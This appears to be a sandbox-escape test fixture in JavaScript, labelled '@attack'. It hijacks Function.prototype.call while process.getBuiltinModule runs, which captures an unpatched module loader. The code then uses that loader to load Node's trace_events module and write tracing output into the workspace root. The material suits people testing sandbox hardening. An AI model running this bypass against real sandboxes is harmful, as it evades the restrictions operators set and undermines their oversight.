/* @attack {"title": "hijack Function.prototype.call while process.getBuiltinModule runs: a wrapper that calls the original through .call hands it over; fetch trace_events with it (never patched) and trace into the workspace root"} */
const realCall = Function.prototype.call;
let raw;
let hijacked = false;
try {
  Function.prototype.call = function call(thisArg, ...args) {
    if (raw === undefined && thisArg === process && args[0] === 'os') raw = this;
    return Reflect.apply(this, thisArg, args);
  };
  hijacked = true;
} catch {
  // Function.prototype.call is read-only: nothing to capture
}
try {
  process.getBuiltinModule('os');
} finally {
  if (hijacked) Function.prototype.call = realCall;
}
const getBuiltin = raw ?? process.getBuiltinModule;
const trace = Reflect.apply(getBuiltin, process, ['trace_events']);
trace.createTracing({ categories: ['node.perf', 'v8'] }).enable();
await new Promise((r) => setTimeout(r, 300));
